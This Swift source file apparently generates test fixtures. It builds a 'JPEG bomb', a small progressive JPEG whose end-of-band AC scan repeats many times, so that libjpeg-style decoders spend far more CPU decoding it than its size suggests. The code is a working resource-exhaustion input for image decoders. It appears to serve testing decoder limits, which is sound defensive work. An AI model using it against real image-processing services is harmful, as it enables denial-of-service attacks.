import Foundation

/// A progressive JPEG built to cost far more to decode than its size suggests: a grey image of
/// `width`×`height` whose AC scan — a few bytes of end-of-band runs covering every block — is repeated
/// `scans` times. Each repeat makes libjpeg walk every block of the image again. Made here, byte by byte,
/// so that the repository holds no attack files.
public enum JPEGBomb {
    public static func make(width: Int, height: Int, scans: Int) -> Data {
        let blocks = ((width + 7) / 8) * ((height + 7) / 8)
        var data = Data([0xFF, 0xD8])
        // Quantisation table 0: all ones.
        data += segment(0xDB, [0x00] + [UInt8](repeating: 1, count: 64))
        // Progressive frame: 8 bits, height, width, one component (id 1, 1×1 sampling, table 0).
        data += segment(0xC2, [8, UInt8(height >> 8), UInt8(height & 0xFF), UInt8(width >> 8), UInt8(width & 0xFF), 1, 1, 0x11, 0])
        // DC table 0 and AC table 0, each with one one-bit code: DC category 0, AC "EOB run of 2^14 + n".
        data += segment(0xC4, [0x00, 1] + [UInt8](repeating: 0, count: 15) + [0x00])
        data += segment(0xC4, [0x10, 1] + [UInt8](repeating: 0, count: 15) + [0xE0])
        // The DC scan: every block's difference is 0.
        var dc = BitWriter()
        for _ in 0..<blocks { dc.write(0, bits: 1) }
        data += segment(0xDA, [1, 1, 0x00, 0, 0, 0x00]) + dc.finished()
        // The AC scan: runs of 32767 blocks ending their bands at once (the last may run past the end of the
        // scan, which libjpeg allows), repeated.
        var ac = BitWriter()
        for _ in stride(from: 0, to: blocks, by: 32767) {
            ac.write(0, bits: 1)
            ac.write(32767 - 16384, bits: 14)
        }
        let acScan = segment(0xDA, [1, 1, 0x00, 1, 63, 0x00]) + ac.finished()
        for _ in 0..<scans { data += acScan }
        return data + Data([0xFF, 0xD9])
    }

    private static func segment(_ marker: UInt8, _ body: [UInt8]) -> Data {
        let length = body.count + 2
        return Data([0xFF, marker, UInt8(length >> 8), UInt8(length & 0xFF)] + body)
    }

    /// Entropy-coded bits, most significant first, `FF` stuffed with `00`, padded with ones.
    private struct BitWriter {
        private var bytes: [UInt8] = []
        private var current = 0
        private var count = 0

        mutating func write(_ value: Int, bits: Int) {
            for shift in stride(from: bits - 1, through: 0, by: -1) {
                current = current << 1 | (value >> shift) & 1
                count += 1
                if count == 8 { flush() }
            }
        }

        mutating func finished() -> Data {
            while count != 0 { write(1, bits: 1) }
            return Data(bytes)
        }

        private mutating func flush() {
            bytes.append(UInt8(current))
            if current == 0xFF { bytes.append(0) }
            current = 0
            count = 0
        }
    }
}
